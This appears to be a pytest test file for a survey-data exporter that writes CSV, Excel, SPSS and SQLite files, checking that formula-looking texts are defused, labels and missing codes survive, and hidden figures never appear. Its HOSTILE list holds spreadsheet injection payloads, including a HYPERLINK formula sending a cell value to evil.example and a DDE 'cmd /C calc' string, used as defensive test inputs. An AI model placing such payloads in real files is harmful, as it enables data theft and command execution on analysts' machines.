"""An edition as files for an analyst.

D1  LibreOffice opens CSV (both spellings) and Excel and sees exactly the edition: texts that look like formulas, æøå,
    semicolons, quotation marks, line breaks, Arabic.
D2  No cell is a formula or a link, in any file; and what was put before a sign can be taken away again.
D3  .sav has labels with æøå; hidden figures are a missing value of their own; the four states without an answer stay apart.
D4  The SQLite file and Excel hold the same sheets; every format holds the same figures.
D5  The codebook marks what was changed, reworded, added and removed from version to version.
D6  The same edition gives the same bytes; another edition others.
D7  Nothing that is hidden is in any file.
"""

from __future__ import annotations

import csv
import io
import json
import math
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyreadstat
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.assemble import assemble
from exports.datasets.codebook import Described, codebook_page, codes_of, entries_of, state_codes
from exports.datasets.dataset import Format, Source, sheets_of, write_dataset
from exports.datasets.formulas import defused, original
from exports.datasets.sheets import Sheet
from exports.datasets.spss import HIDDEN, Variable, names_of, write_sav
from exports.datasets.variables import variables_of
from exports.wording import Words
from forms.document import read_document
from forms.questionnaire import State
from tests.exports.cast import (
    FREE_TEXT,
    IV_PLAN,
    TIME_PLAN,
    Bins,
    Planned,
    figures_of,
    iv_people,
    library,
    time_people,
)
from tests.exports.office import DANISH, sheets_seen
from tests.exports.office import PLAIN as PLAIN_OFFICE

IV = library("iv-satisfaction")
HOSTILE = (
    '=HYPERLINK("http://evil.example?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "  =1+1",
    "ja; =1+1", "ja,=1+1", "linje et\n=2+2", "to\nlinjer; og et \"citat\"", "'=1", "''", "’s", "æøå ÆØÅ – ½", "٣ ملاحظات، شكرا = جزيلا", "＝1＋1",
    "007", "1,5", "2026-01-01", "TRUE", "http://example.org", "a\\b", "x" * 1999,
)  # fmt: skip


def source(figures: dict[str, Any], language: str = "da", **changes: Any) -> Source:
    return Source(
        figures=figures, versions=[Described("version 1", IV)], language=language, **changes
    )


def hostile_edition() -> dict[str, Any]:
    told = [{"language": "da", "text": text} for text in HOSTILE]
    plan = [*IV_PLAN, Planned("trust_by_unit", "trust", ("unit",))]
    people = iv_people(60)
    for person in people:
        person["unit"] = person["unit"].replace("fanoe", "=cmd;1").replace("assens", "ÆRØ, ”by”")
    figures = figures_of(
        IV,
        plan,
        people,
        free_text=[{"question": "suggestions", "texts": told}],
        working_group='=1+1;"x"',
    )
    assert any(group["label"].startswith("=") for group in figures["tables"][-1]["groups"])
    return figures


@pytest.fixture(scope="module")
def edition() -> dict[str, Any]:
    return hostile_edition()


def written(folder: Path, kind: Format, figures: dict[str, Any], language: str = "da") -> Path:
    path = folder / f"{kind.value}.{kind.ending}"
    write_dataset(path, kind, source(figures, language))
    return path


def same(seen: str, meant: Any) -> bool:
    """Whether a cell that a program gave as text is the value that was meant."""
    if meant is None:
        return seen == ""
    if isinstance(meant, str):
        return seen == meant
    return seen != "" and math.isclose(float(seen), meant, rel_tol=1e-12, abs_tol=1e-12)


def assert_same(
    seen: list[list[str]], sheet: Sheet, *, labels: bool, way_back: Callable[[str], str] = str
) -> None:
    head = [column.label if labels else column.name for column in sheet.columns]
    assert seen[0] == head
    meant = list(sheet.rows)
    assert len(seen) - 1 == len(meant)
    for given_row, meant_row in zip(seen[1:], meant, strict=True):
        for cell, value in zip(given_row, meant_row, strict=True):
            assert same(way_back(cell) if isinstance(value, str) else cell, value), (cell, value)


def missing(value: float | None) -> bool:
    """Whether a number that was read from .sav is missing."""
    return value is None or math.isnan(value)


def sheet_of(figures: dict[str, Any], name: str) -> Sheet:
    return next(one for one in sheets_of(source(figures), Words("da")) if one.name == name)


# --- D1, D2: as a spreadsheet sees it


def test_libreoffice_reads_excel_back(edition: dict[str, Any], tmp_path: Path) -> None:
    path = written(tmp_path, Format.XLSX, edition)
    seen = sheets_seen(path, tmp_path)
    for sheet in sheets_of(source(edition), Words("da")):
        assert_same(seen[sheet.title], sheet, labels=True)
        # A formula would have been computed, and a cell would be something else than it was.


def test_libreoffice_reads_both_spellings_of_csv_back(
    edition: dict[str, Any], tmp_path: Path
) -> None:
    for kind, opened in ((Format.TEXTS, DANISH), (Format.CSV_PLAIN, PLAIN_OFFICE)):
        path = written(tmp_path, kind, edition)
        sheet = sheet_of(edition, "texts" if kind is Format.TEXTS else "figures")
        assert_same(sheets_seen(path, tmp_path, opened)[""], sheet, labels=False, way_back=original)


def test_a_file_opened_with_another_delimiter_has_no_formula_either(
    edition: dict[str, Any], tmp_path: Path
) -> None:
    """D2: whatever a spreadsheet takes for the delimiter, no cell begins with a sign of a formula."""
    for kind in (Format.TEXTS, Format.TEXTS_PLAIN, Format.CSV, Format.CSV_PLAIN):
        text = written(tmp_path, kind, edition).read_text(encoding="utf-8-sig")
        for delimiter in ",;\t|":
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                for cell in row:
                    # A lone quotation mark is what is left of a text in quotation marks.
                    assert cell.strip(' \t\n\r"')[:1] not in "=+@＝" or cell.strip(' "') == "", cell
            for line in text.splitlines():
                assert line.lstrip(' \t"')[:1] not in ("=", "+", "@"), line


@given(st.text(st.sampled_from("=+-@'\"; ,\t|\n\rxæ\u00a0\u200b＝1")))
def test_what_was_put_before_a_sign_can_be_taken_away_again(text: str) -> None:
    safe = defused(text)
    assert original(safe) == text
    blank = " \t\r\n\u00a0\u200b"
    for begun in (safe, *[safe[at + 1 :] for at, sign in enumerate(safe) if sign in ",;\t|\r\n"]):
        assert begun.lstrip(blank)[:1] not in ("=", "+", "-", "@", "＝")


def test_excel_has_no_formula_in_its_own_words(edition: dict[str, Any], tmp_path: Path) -> None:
    """D2."""
    with zipfile.ZipFile(written(tmp_path, Format.XLSX, edition)) as book:
        for name in book.namelist():
            text = book.read(name).decode()
            assert "<f>" not in text
            assert "<f " not in text
            assert "<hyperlink" not in text


# --- D3: SPSS


def test_sav_has_labels_and_hidden_figures_are_missing(
    edition: dict[str, Any], tmp_path: Path
) -> None:
    path = written(tmp_path, Format.SAV, edition)
    frame, about = pyreadstat.read_sav(path, user_missing=True, output_format="dict")
    sheet = sheet_of(edition, "figures")
    labels = about.column_names_to_labels
    assert labels["title"] == "Titel"
    assert set(about.variable_value_labels["state"].values()) >= {
        "vist",
        "skjult",
        "svarmuligheder lagt sammen",
    }
    assert about.missing_ranges["n"] == [{"lo": HIDDEN, "hi": HIDDEN}]
    names = [column.name for column in sheet.columns]
    rows = list(sheet.rows)
    assert list(frame["title"]) == [row[names.index("title")] for row in rows]
    assert any("ø" in title for title in frame["title"])
    for number, row in enumerate(rows):
        hidden = row[names.index("state")] == "hidden"
        meant = row[names.index("n")]
        seen = frame["n"][number]
        assert seen == (HIDDEN if hidden and meant is None else meant) or (
            meant is None and missing(seen)
        )
    without, _ = pyreadstat.read_sav(path, output_format="dict")
    assert not any(value == HIDDEN for value in without["n"])


def test_sav_keeps_the_four_states_apart(tmp_path: Path) -> None:
    path = tmp_path / "states.sav"
    variable = next(
        one for one in variables_of(IV) if one.question.dont_know and one.question.not_relevant
    )
    codes = state_codes(variable)
    assert len(set(codes.values())) == 4
    words = {
        -91: "Ved ikke – æ",
        -92: "Ikke relevant – ø",
        -93: "Ubesvaret – å",
        -94: "Ikke stillet",
    }
    asked = Variable(
        variable.place,
        "Blev du hørt? Æ",
        codes=True,
        values={5: "I høj grad", **words},
        missing=tuple(words),
    )
    number = Variable("age", "Alder på år", decimals=1, missing=(-91, -93, -94), measure="scale")
    rows = [(5, 1.5), (-91, -91), (-92, None), (-93, -93), (-94, -94)]
    write_sav(path, [asked, number], rows, label="Prøve æøå", made_on="2026-03-01")
    frame, about = pyreadstat.read_sav(path, user_missing=True, output_format="dict")
    assert list(frame[variable.place]) == [5, -91, -92, -93, -94]
    assert about.variable_value_labels[variable.place][-92] == "Ikke relevant – ø"
    assert about.file_label == "Prøve æøå"
    plain, _ = pyreadstat.read_sav(path, output_format="dict")
    assert [missing(value) for value in plain[variable.place]] == [False, True, True, True, True]
    assert [missing(value) for value in plain["age"]] == [False, True, True, True, True]


def test_codes_of_states_are_no_answers() -> None:
    document = """
format: 1
questionnaire: cold
shape: survey
promise: anonymous
languages: {da: {state: reviewed, by: x, on: 2026-01-01}}
title: {da: Kulde}
sections:
  - id: one
    title: {da: Et}
    questions:
      - {id: degrees, kind: number, text: {da: Hvor koldt?}, minimum: -95, maximum: 10, dont_know: true}
      - {id: deep, kind: number, text: {da: Hvor dybt?}, minimum: -11000, maximum: 0}
"""
    for variable in variables_of(read_document(document)):
        codes = state_codes(variable).values()
        assert all(code < variable.question.minimum for code in codes), list(codes)  # type: ignore[attr-defined]


def test_names_that_spss_takes() -> None:
    long = "steps/" + "a" * 40 + "/" + "b" * 40
    names = names_of(["care/met", "care_met", "to", "1st", "CARE_MET", long, long + "c"])
    assert names[:5] == ["care_met", "care_met_2", "v_to", "v_1st", "CARE_MET_3"]
    assert len({name.casefold() for name in names}) == 7
    assert all(len(name) <= 64 for name in names)


# --- D4


def test_every_format_holds_the_same_figures(edition: dict[str, Any], tmp_path: Path) -> None:
    sheet = sheet_of(edition, "figures")
    meant = [tuple(row) for row in sheet.rows]
    with sqlite3.connect(written(tmp_path, Format.SQLITE, edition)) as db:
        assert [tuple(row) for row in db.execute("SELECT * FROM figures")] == meant
        tables = {
            row[0] for row in db.execute("SELECT name FROM sqlite_schema WHERE type = 'table'")
        }
        assert tables == {"about", "figures", "chapters", "texts", "variables", "values"}
        report = assemble(edition, IV, "da")
        said = {
            (block.grid.caption, row[0], row[-1])
            for chapter in report.chapters
            for block in chapter.blocks
            for row in block.grid.rows
            if len(row) > 1
        }
        assert said
        assert said <= set(db.execute('SELECT "table", row, text FROM chapters'))
        assert db.execute("SELECT text FROM texts").fetchall() == [(text,) for text in HOSTILE]
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    db.close()
    for kind, delimiter in ((Format.CSV, ";"), (Format.CSV_PLAIN, ",")):
        text = written(tmp_path, kind, edition).read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]
        assert len(rows) == len(meant)
        for seen, value in zip(rows, meant, strict=True):
            for cell, one in zip(seen, value, strict=True):
                back = original(cell) if isinstance(one, str) else cell.replace(",", ".")
                assert same(back, one)


def test_the_figures_of_numbers_are_all_there(tmp_path: Path) -> None:
    """D4: means, medians, quartiles and the histogram of a time study."""
    figures = figures_of(library("time-study"), TIME_PLAN, time_people(200))
    del tmp_path
    sheet = sheet_of_time(figures)
    rows = [dict(zip([c.name for c in sheet.columns], row, strict=True)) for row in sheet.rows]
    [minutes] = [table for table in figures["tables"] if table["id"] == "minutes"]
    group = minutes["groups"][0]
    told = {row["cell"]: row for row in rows if row["table"] == "minutes"}
    assert told["measure:mean"]["value"] == group["mean"]
    assert told["measure:median"]["value"] == group["median"]
    assert [
        told["measure:lower_quartile"]["value"],
        told["measure:upper_quartile"]["value"],
    ] == group["quartiles"]
    bars = [row for cell, row in told.items() if cell.startswith("bin:")]
    assert [row["n"] for row in bars] == [n for _, _, n in group["histogram"]]
    assert told["measure:n"]["n"] == 200


def sheet_of_time(figures: dict[str, Any]) -> Sheet:
    described = [Described("version 1", library("time-study"))]
    made = Source(figures=figures, versions=described, language="da")
    return next(one for one in sheets_of(made, Words("da")) if one.name == "figures")


# --- D5


BEFORE = """
format: 1
questionnaire: care
shape: survey
promise: anonymous
languages: {da: {state: reviewed, by: x, on: 2026-01-01}}
title: {da: Omsorg}
sections:
  - id: one
    title: {da: Et <afsnit>}
    questions:
      - {id: same, kind: one_of, text: {da: Uændret?}, options: [{id: a, text: {da: A}}, {id: b, text: {da: B}}]}
      - {id: words, kind: one_of, text: {da: Gammel ordlyd?}, options: [{id: a, text: {da: A}}, {id: b, text: {da: B}}]}
      - {id: options, kind: one_of, text: {da: Muligheder?}, options: [{id: a, text: {da: A}}, {id: b, text: {da: B}}]}
      - {id: away, kind: count, text: {da: Væk?}}
"""
AFTER = (
    BEFORE.replace("Gammel ordlyd", "Ny ordlyd & mere")
    .replace(
        "{da: Muligheder?}, options: [{id: a,",
        "{da: Muligheder?}, options: [{id: c, text: {da: C}}, {id: a,",
    )
    .replace("id: away, kind: count, text: {da: Væk?}", "id: new, kind: count, text: {da: Ny?}")
)


def test_the_codebook_marks_every_break() -> None:
    versions = [Described("2018", read_document(BEFORE)), Described("2021", read_document(AFTER))]
    entries = {one.place: one for one in entries_of(versions, Words("da"))}
    assert {place: [part.state for part in one.breaks] for place, one in entries.items()} == {
        "same": [],
        "words": ["wording"],
        "options": ["changed"],
        "new": ["added"],
    }
    assert "2018" in entries["options"].breaks[0].text
    assert "kan ikke sammenlignes" in entries["options"].breaks[0].text
    figures = figures_of(IV, IV_PLAN, iv_people(30))
    page = codebook_page(figures, versions, Words("da"))
    assert 'class="break changed"' in page
    assert "away blev stillet i 2018, men ikke i 2021." in page
    assert "Et &lt;afsnit&gt;" in page
    assert "Ny ordlyd &amp; mere" in page
    assert "http" not in page.replace("http-equiv", "")


def test_the_codebook_has_every_value_of_every_variable() -> None:
    for name in ("iv-satisfaction", "time-study", "ptsd-interviews", "sof-follow-up"):
        questionnaire = library(name)
        entries = entries_of([Described("1", questionnaire)], Words("da"))
        assert len({one.place for one in entries}) == len(entries)
        for variable in variables_of(questionnaire, repetitions=False):
            codes = codes_of(variable)
            assert len(set(codes.values())) == len(codes)
            states = state_codes(variable)
            assert not set(codes.values()) & set(states.values())
            assert {State.UNANSWERED, State.NOT_SHOWN} <= set(states)


# --- D6, D7


@pytest.mark.parametrize("kind", list(Format))
def test_the_same_edition_gives_the_same_bytes(kind: Format, tmp_path: Path) -> None:
    figures = figures_of(IV, IV_PLAN, iv_people(90), free_text=FREE_TEXT)
    again = json.loads(json.dumps(figures))
    first, second = tmp_path / "first", tmp_path / "second"
    first.mkdir()
    second.mkdir()
    content = written(first, kind, figures).read_bytes()
    assert written(second, kind, again).read_bytes() == content
    assert sorted(path.name for path in first.iterdir()) == [f"{kind.value}.{kind.ending}"]
    if kind in (Format.CSV, Format.XLSX, Format.SAV, Format.SQLITE):
        other = figures_of(IV, IV_PLAN, iv_people(91), free_text=FREE_TEXT)
        assert written(second, kind, other).read_bytes() != content


def test_what_is_hidden_is_in_no_file(tmp_path: Path) -> None:
    """D7: 4 of 4 answers in a number that occurs nowhere else."""
    people = [{"trust": "5", "minutes": 4711} for _ in range(4)]
    plan = [
        Planned("trust", "trust"),
        Planned("minutes", "minutes", kind="number", histogram=Bins()),
    ]
    figures = figures_of(IV, plan, people, eligible=None, offered=None, declined=None, unable=None)
    for sheet in sheets_of(source(figures), Words("da")):
        if sheet.name == "figures":
            rows = list(sheet.rows)
            states = {row[[c.name for c in sheet.columns].index("state")] for row in rows}
            assert states == {"hidden"}
            assert all(not isinstance(cell, int | float) for row in rows for cell in row)
    for kind in Format:
        assert b"4711" not in written(tmp_path, kind, figures).read_bytes()
